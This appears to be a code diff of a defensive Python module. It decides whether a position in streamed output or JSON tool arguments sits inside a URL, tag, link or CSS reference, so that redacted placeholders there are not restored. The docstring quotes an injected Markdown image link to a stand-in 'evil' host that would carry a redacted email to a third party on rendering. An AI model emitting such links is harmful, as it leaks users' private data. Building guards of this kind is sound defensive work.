@@ -1,23 +1,138 @@
-"""Is a position inside a URL or link target? Restoring a placeholder there would let an
-injected link (`![x](https://evil/?q=[REDACTED_EMAIL_1])`) carry the value to a third party the
-moment a client renders it, so the guard leaves those placeholders alone (DESIGN §5).
+"""Would a renderer fetch or link what stands at this position? Restoring a placeholder there
+would let an injected link (`![x](https://evil/?q=[REDACTED_EMAIL_1])`) carry the caller's
+value to a third party the moment a client renders it, so the guard leaves such placeholders
+alone (DESIGN §5).
 
-URLs contain no whitespace, so looking back to the previous whitespace is enough; the stream
-guard only ever cuts at whitespace, so that stretch is always in the same piece.
+Decided by Markdown and HTML structure over the text before the position (the guard passes
+what it already emitted, so a link opened in an earlier chunk still counts), never by looking
+back to the last space alone:
+- inside an HTML tag (`<img src = "…`, any attribute, quoted or not, across lines) or an
+  autolink (`<https://…>`, `<…@…>`);
+- inside a Markdown inline link or image destination (`](…`, titles and `<…>` forms included)
+  and on the line of a reference definition (`[id]: …`, or the line after a bare `[id]:`);
+- inside CSS `url(…)` or after `@import`;
+- in a token that holds a URL: any `scheme:`, `//host`, `www.`, or `host.tld/`, also when the
+  scheme is written with HTML entities or percent-escapes (`https&#58;//`, `https%3A//`).
+Tokens end at ASCII blanks only (a no-break space does not end a URL for every linkifier); in
+tool-call arguments (JSON) a token also ends at the opening quote of its JSON string.
+When in doubt the placeholder stays: a missed restore is visible, a leak is not.
 """
 
 from __future__ import annotations
 
+import re
 from typing import Final
 
-_MARKERS: Final = ("://", "](", "href=", "src=", "mailto:", "url(", "www.", "data:", "srcset=", "action=")
-_LOOKBACK: Final = 4096
+WINDOW: Final = 2048
+
+_TAG_OPEN: Final = re.compile(r"<(?:[A-Za-z][A-Za-z0-9:-]{0,31}+(?=[\s/>])|[!?/])")
+_REF_DEF: Final = re.compile(r" {0,3}\[[^\]\n]{1,999}\]:")
+_REF_LABEL_ONLY: Final = re.compile(r" {0,3}\[[^\]\n]{1,999}\]:\s*")
+_SCHEME: Final = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}:")
+_HOST_PATH: Final = re.compile(r"(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}(?::\d{1,5})?[/?#]")
+_ENCODED: Final = re.compile(
+    r"(?i)&#x0*([0-9a-f]{1,6});?|&#0*([0-9]{1,7});?|&(colon|sol|period|lpar|rpar|lt|gt);|%([0-9a-f]{2})|\\"
+)
+_NAMED: Final = {"colon": ":", "sol": "/", "period": ".", "lpar": "(", "rpar": ")", "lt": "<", "gt": ">"}
+_WS: Final = re.compile(r"\s")
 
 
-def in_url(text: str, pos: int) -> bool:
-    start = pos
-    limit = max(0, pos - _LOOKBACK)
-    while start > limit and not text[start - 1].isspace():
-        start -= 1
-    prefix = text[start:pos].lower()
-    return any(marker in prefix for marker in _MARKERS)
+def _decode(token: str) -> str:
+    """Entities and percent-escapes to their characters; backslash escapes dropped."""
+
+    def one(m: re.Match[str]) -> str:
+        hex_code, dec_code, name, pct = m.groups()
+        if name:
+            return _NAMED[name.lower()]
+        if m.group(0) == "\\":
+            return ""
+        code = int(hex_code, 16) if hex_code else int(dec_code) if dec_code else int(pct, 16)
+        return chr(code) if 32 <= code < 127 else "?"
+
+    return _ENCODED.sub(one, token) if ("&" in token or "%" in token or "\\" in token) else token
+
+
+def _in_tag(before: str) -> bool:
+    lt = before.rfind("<")
+    if lt == -1 or before.rfind(">") > lt:
+        return False
+    rest = before[lt + 1 :]
+    if not rest or _TAG_OPEN.match(before, lt) is not None:
+        return True
+    # An autolink: `<` then a run with no blank up to here.
+    return _WS.search(rest) is None
+
+
+def _in_link_destination(before: str) -> bool:
+    opener = before.rfind("](")
+    if opener == -1:
+        return False
+    depth = 1
+    for ch in before[opener + 2 :]:
+        if ch == "(":
+            depth += 1
+        elif ch == ")":
+            depth -= 1
+            if depth == 0:
+                return False
+    return True
+
+
+def _in_reference_definition(before: str) -> bool:
+    line_start = before.rfind("\n") + 1
+    if _REF_DEF.match(before, line_start) is not None:
+        return True
+    if line_start == 0:
+        return False
+    prev_start = before.rfind("\n", 0, line_start - 1) + 1
+    return _REF_LABEL_ONLY.fullmatch(before, prev_start, line_start - 1) is not None or (
+        _REF_DEF.match(before, prev_start) is not None and not before[line_start:].strip()
+    )
+
+
+def _in_css(before: str) -> bool:
+    lowered = before.lower()
+    url = lowered.rfind("url(")
+    if url != -1 and ")" not in lowered[url:]:
+        return True
+    imp = lowered.rfind("@import")
+    return imp != -1 and ";" not in lowered[imp:] and "\n" not in lowered[imp:]
+
+
+def _json_string_start(before: str) -> int:
+    """Index just after the opening quote of the JSON string `before` ends in (0 if none)."""
+    i = len(before) - 1
+    while i >= 0:
+        if before[i] == '"':
+            slashes = 0
+            j = i - 1
+            while j >= 0 and before[j] == "\\":
+                slashes += 1
+                j -= 1
+            if slashes % 2 == 0:
+                return i + 1
+        i -= 1
+    return 0
+
+
+def _token_is_url(token: str) -> bool:
+    decoded = _decode(token)
+    return (
+        _SCHEME.search(decoded) is not None
+        or "//" in decoded
+        or "www." in decoded.lower()
+        or _HOST_PATH.search(decoded) is not None
+    )
+
+
+def in_url(text: str, pos: int, *, json_context: bool = False) -> bool:
+    """Is `text[pos]` somewhere a renderer (or a tool) would fetch or link?"""
+    before = text[max(0, pos - WINDOW) : pos]
+    if _in_tag(before) or _in_link_destination(before) or _in_reference_definition(before) or _in_css(before):
+        return True
+    cut = max(before.rfind(" "), before.rfind("\n"), before.rfind("\t"), before.rfind("\r")) + 1
+    if json_context:
+        # The token is inside its JSON string, where line breaks and tabs are escapes.
+        escaped = max(before.rfind("\\n"), before.rfind("\\t"), before.rfind("\\r"))
+        cut = max(cut, _json_string_start(before), escaped + 2 if escaped != -1 else 0)
+    return _token_is_url(before[cut:])
